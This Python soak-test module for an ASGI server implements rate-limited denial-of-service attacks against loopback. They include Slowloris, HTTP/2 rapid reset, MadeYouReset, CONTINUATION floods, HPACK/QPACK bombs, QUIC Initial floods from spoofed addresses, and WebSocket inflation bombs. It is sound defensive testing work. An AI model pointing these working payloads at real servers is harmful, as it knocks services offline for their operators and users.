"""What hostile clients do, each at a bounded rate and on loopback only.

An attack runs in a process of its own, so that what it costs is not taken for what it does:
`python -m tests.soak.attacks NAME PLAIN_PORT SECURE_PORT SECONDS` prints how much it has sent.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

from aioquic.quic.packet import QuicFrameType

from asgiri.worker.protocol.http2_frames import ErrorCode, Flag, FrameType
from asgiri.worker.protocol.http3_frames import HEADERS, frame
from tests.support.http1_client import Http1Connection
from tests.support.http3_client import Http3Connection
from tests.support.load import ERRORS
from tests.support.stream import ByteStream
from tests.support.websocket_client import Opcode, WebSocketClient, encode_frame, open_websocket

HOST = "127.0.0.1"
TICK = 0.05
"""Seconds between two portions."""


@dataclass
class Attacker:
    """One attack: many connections that share a rate."""

    plain: int
    secure: int
    seconds: float
    rate: float
    """Portions per second, all connections together."""
    sent: int = 0
    connections: int = 0
    _began: float = field(default_factory=time.monotonic)

    async def may_send(self, count: int = 1) -> None:
        """Return when so much more is within the rate."""
        self.sent += count
        while self.sent > (time.monotonic() - self._began) * self.rate + self.rate * TICK:
            await asyncio.sleep(TICK)

    async def run(self, attack: Attack, connections: int) -> None:
        """Repeat it on so many connections at a time: who is refused comes again."""
        tasks = [asyncio.create_task(self._repeat(attack)) for _ in range(connections)]
        await asyncio.sleep(self.seconds)
        pending = set(tasks)
        while pending:  # wait_for of Python 3.11 may swallow a cancellation
            for task in pending:
                task.cancel()
            _, pending = await asyncio.wait(pending, timeout=0.1)
        for task in tasks:
            if not task.cancelled():
                task.result()

    async def _repeat(self, attack: Attack) -> None:
        while True:
            self.connections += 1
            with contextlib.suppress(*ERRORS):
                await attack(self)
            await asyncio.sleep(TICK)


Attack = Callable[[Attacker], Awaitable[None]]


# TCP


async def connections(attacker: Attacker) -> None:
    """Say nothing, and hold on until the server lets go."""
    port = random.choice([attacker.plain, attacker.secure])
    await attacker.may_send()
    async with await ByteStream.connect(HOST, port) as stream:
        await stream.wait_closed()


async def coming_and_going(attacker: Attacker) -> None:
    await attacker.may_send()
    stream = await ByteStream.connect(HOST, attacker.plain)
    stream.abort()


# HTTP/1.1


async def slow_heads(attacker: Attacker) -> None:
    """Slowloris: a request's head that never ends."""
    async with await ByteStream.connect(HOST, attacker.plain) as stream:
        await stream.write(b"GET /hello HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        while True:
            await attacker.may_send()
            await stream.write(b"x")
            await asyncio.sleep(0.5)


async def slow_bodies(attacker: Attacker) -> None:
    async with await ByteStream.connect(HOST, attacker.plain) as stream:
        await stream.write(b"POST /hash HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99\r\n\r\nx")
        await attacker.may_send()
        await stream.wait_closed()


# HTTP/2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = b"\x82\x86\x84\x01\x09localhost"
"""GET http / with an authority: RFC 7541, indexed names of the static table."""
POST = b"\x83" + GET[1:]
BURST = 50


def frame2(kind: int, stream_id: int, payload: bytes = b"", flags: int = 0) -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream_id.to_bytes(4, "big") + payload


async def http2(attacker: Attacker, portion: Callable[[int], bytes], settings: bytes = b"") -> None:
    """Send a portion for each number from 0, until the server has enough."""
    async with await ByteStream.connect(HOST, attacker.plain) as stream:
        await stream.write(PREFACE + frame2(FrameType.SETTINGS, 0, settings))
        number = 0

        async def send() -> None:
            nonlocal number
            while True:
                await attacker.may_send(BURST)
                await stream.write(b"".join(portion(number + each) for each in range(BURST)))
                number += BURST

        sending = asyncio.create_task(send())
        try:
            await stream.wait_closed()
        finally:
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)


def stream_of(number: int) -> int:
    return 2 * number + 1


def request2(number: int, block: bytes = GET, flags: int = Flag.END_STREAM) -> bytes:
    return frame2(FrameType.HEADERS, stream_of(number), block, flags | Flag.END_HEADERS)


async def rapid_reset(attacker: Attacker) -> None:
    """CVE-2023-44487."""
    cancel = int(ErrorCode.CANCEL).to_bytes(4, "big")

    def portion(number: int) -> bytes:
        return request2(number) + frame2(FrameType.RST_STREAM, stream_of(number), cancel)

    await http2(attacker, portion)


async def made_you_reset(attacker: Attacker) -> None:
    """CVE-2025-8671: a window that overflows makes the server reset the stream."""
    most = (2**31 - 1).to_bytes(4, "big")

    def portion(number: int) -> bytes:
        overflow = frame2(FrameType.WINDOW_UPDATE, stream_of(number), most)
        return request2(number, POST, 0) + overflow

    await http2(attacker, portion)


async def continuation(attacker: Attacker) -> None:
    """VU#421644: a head that never ends, in frames that need no flow control."""

    def portion(number: int) -> bytes:
        if number == 0:
            return frame2(FrameType.HEADERS, 1, GET)
        return frame2(FrameType.CONTINUATION, 1, b"\x00\x01x\x01y" * 200)

    await http2(attacker, portion)


async def hpack_bomb(attacker: Attacker) -> None:
    """CVE-2016-6581: one octet names an entry of 3,900."""
    large = b"\x40\x04bomb\x7f" + seven_bits(3900 - 127) + b"y" * 3900

    def portion(number: int) -> bytes:
        return request2(number, GET + large if number == 0 else GET + b"\xbe" * 8000)

    await http2(attacker, portion)


def seven_bits(rest: int) -> bytes:
    """The rest of an integer whose prefix is full (RFC 7541 §5.1)."""
    octets = bytearray()
    while rest >= 128:
        octets.append(rest & 0x7F | 0x80)
        rest >>= 7
    return bytes(octets) + bytes([rest])


def of_no_use(kind: int, stream_id: int, payload: bytes = b"") -> Attack:
    async def attack(attacker: Attacker) -> None:
        useless = frame2(kind, stream_id, payload)
        await http2(attacker, lambda number: useless if number else request2(0, POST, 0) + useless)

    return attack


async def zero_window(attacker: Attacker) -> None:
    """CVE-2019-9511, 9517: ask for much and take nothing."""
    settings = struct.pack("!HI", 4, 0)
    path = b"/bytes?size=9999999"
    block = b"\x82\x86\x04" + bytes([len(path)]) + path + GET[3:]
    async with await ByteStream.connect(HOST, attacker.plain) as stream:
        await stream.write(PREFACE + frame2(FrameType.SETTINGS, 0, settings))
        await attacker.may_send(100)
        await stream.write(b"".join(request2(number, block) for number in range(100)))
        await stream.wait_closed()


# QUIC


def spoof() -> socket.socket:
    """A socket with an address of its own."""
    opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    opened.setblocking(False)
    opened.bind((f"127.{random.randrange(1, 255)}.{random.randrange(256)}.1", 0))
    return opened


async def datagrams(attacker: Attacker, make: Callable[[], bytes]) -> None:
    with contextlib.ExitStack() as stack:
        sources = [stack.enter_context(spoof()) for _ in range(64)]
        while True:
            await attacker.may_send(BURST)
            for _ in range(BURST):
                with contextlib.suppress(OSError):
                    random.choice(sources).sendto(make(), (HOST, attacker.secure))


async def initials(attacker: Attacker) -> None:
    """Initials from addresses that nobody has; right outside, rubbish inside."""

    def make() -> bytes:
        head = struct.pack("!BIB8sB", 0xC3, 1, 8, os.urandom(8), 0) + b"\0\x44\x96"
        return head + os.urandom(1200 - len(head))

    await datagrams(attacker, make)


async def forged_ids(attacker: Attacker) -> None:
    await datagrams(attacker, lambda: b"\x40" + os.urandom(60))


async def connect3(attacker: Attacker) -> Http3Connection:
    return await Http3Connection.connect(HOST, attacker.secure, verify_mode=ssl.CERT_NONE)


async def quic_frames(attacker: Attacker, write: Callable[[Any, Any], int]) -> None:
    """Put frames into every packet that aioquic writes."""
    connection = await connect3(attacker)
    quic = connection.quic
    written = 0

    def write_limits(builder: Any, space: Any) -> None:
        nonlocal written
        written += write(quic, builder)

    quic._write_connection_limits = write_limits  # type: ignore[method-assign]
    try:
        while True:
            before = written
            await connection.ping()
            await attacker.may_send(max(1, written - before))
    finally:
        connection.vanish()


async def path_challenges(attacker: Attacker) -> None:
    def write(quic: Any, builder: Any) -> int:
        for _ in range(BURST):
            buffer = builder.start_frame(QuicFrameType.PATH_CHALLENGE, capacity=9)
            buffer.push_bytes(os.urandom(8))
        return BURST

    await quic_frames(attacker, write)


async def retired_ids(attacker: Attacker) -> None:
    """Retire each connection ID as soon as it comes."""

    def write(quic: Any, builder: Any) -> int:
        retired = len(quic._peer_cid_available)
        for entry in quic._peer_cid_available:
            quic._retire_connection_ids.append(entry.sequence_number)
        quic._peer_cid_available.clear()
        return retired

    await quic_frames(attacker, write)


async def qpack_bomb(attacker: Attacker) -> None:
    """One octet stands for 3,900."""
    connection = await connect3(attacker)
    insert = b"\x3f\xe1\x1f" + b"\x41n\x7f" + seven_bits(3900 - 127) + b"v" * 3900
    encoder = connection.h3._local_encoder_stream_id
    connection.quic.send_stream_data(encoder, insert)
    try:
        while True:
            await attacker.may_send()
            bomb = frame(HEADERS, b"\x02\x00" + b"\x80" * 60_000)
            exchange = connection.start_raw(bomb, ended=True)
            async with asyncio.timeout(5):
                await exchange.head()
    finally:
        connection.vanish()


async def rapid_reset3(attacker: Attacker) -> None:
    connection = await connect3(attacker)
    try:
        while not connection.closed.is_set():
            await attacker.may_send()
            exchange = await connection.start("GET", "/sleep")
            await exchange.cancel()
            await asyncio.sleep(0)
    finally:
        connection.vanish()


# WebSockets


async def websocket(
    attacker: Attacker, portion: bytes, first: bytes = b"", *, deflate: bool = False
) -> None:
    connection = await Http1Connection.connect(HOST, attacker.plain)
    try:
        opened = await open_websocket(connection, deflate=deflate)
        sending = asyncio.create_task(_send_on(attacker, opened, portion, first))
        try:
            while True:
                if (await opened.read_frame()).opcode is Opcode.CLOSE:
                    return
        finally:
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)
    finally:
        await connection.abort()


async def _send_on(
    attacker: Attacker, opened: WebSocketClient, portion: bytes, first: bytes
) -> None:
    await opened.send_raw(first)
    while True:
        await attacker.may_send(BURST if portion else 1)
        await opened.send_raw(portion * BURST)


async def pings(attacker: Attacker) -> None:
    await websocket(attacker, encode_frame(Opcode.PING, bytes(125)))


async def fragments(attacker: Attacker) -> None:
    first = encode_frame(Opcode.TEXT, b"x", fin=False)
    await websocket(attacker, encode_frame(Opcode.CONTINUATION, b"x", fin=False), first)


async def inflation(attacker: Attacker) -> None:
    """32 KiB that inflate to more than 30 MiB."""
    compressor = zlib.compressobj(9, wbits=-15)
    bomb = compressor.compress(bytes(1 << 25)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    await websocket(attacker, b"", encode_frame(Opcode.BINARY, bomb[:-4], rsv=4), deflate=True)


ATTACKS: dict[str, tuple[Attack, int, float]] = {
    # Name: what, on how many connections at a time, and portions per second.
    "connections": (connections, 1000, 500),
    "connections that come and go": (coming_and_going, 20, 500),
    "HTTP/1.1 slow heads": (slow_heads, 300, 1000),
    "HTTP/1.1 slow bodies": (slow_bodies, 300, 500),
    "HTTP/2 rapid reset": (rapid_reset, 4, 2000),
    "HTTP/2 MadeYouReset": (made_you_reset, 4, 2000),
    "HTTP/2 CONTINUATION": (continuation, 4, 2000),
    "HTTP/2 HPACK bomb": (hpack_bomb, 4, 200),
    "HTTP/2 SETTINGS": (of_no_use(FrameType.SETTINGS, 0), 4, 5000),
    "HTTP/2 PING": (of_no_use(FrameType.PING, 0, bytes(8)), 4, 5000),
    "HTTP/2 empty DATA": (of_no_use(FrameType.DATA, 1), 4, 5000),
    "HTTP/2 PRIORITY": (of_no_use(FrameType.PRIORITY, 1, bytes(4) + b"\x10"), 4, 5000),
    "HTTP/2 zero window": (zero_window, 10, 500),
    "QUIC Initials": (initials, 1, 2000),
    "QUIC forged connection IDs": (forged_ids, 1, 5000),
    "QUIC PATH_CHALLENGE": (path_challenges, 2, 2000),
    "QUIC RETIRE_CONNECTION_ID": (retired_ids, 2, 500),
    "HTTP/3 QPACK bomb": (qpack_bomb, 2, 20),
    "HTTP/3 rapid reset": (rapid_reset3, 2, 500),
    "WebSocket pings": (pings, 4, 5000),
    "WebSocket fragments": (fragments, 1, 20_000),
    "WebSocket inflation": (inflation, 2, 20),
}


async def main(name: str, plain: int, secure: int, seconds: float) -> Attacker:
    attack, count, rate = ATTACKS[name]
    attacker = Attacker(plain, secure, seconds, rate)
    await attacker.run(attack, count)
    return attacker


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    done = asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
    print(json.dumps({"sent": done.sent, "connections": done.connections}))
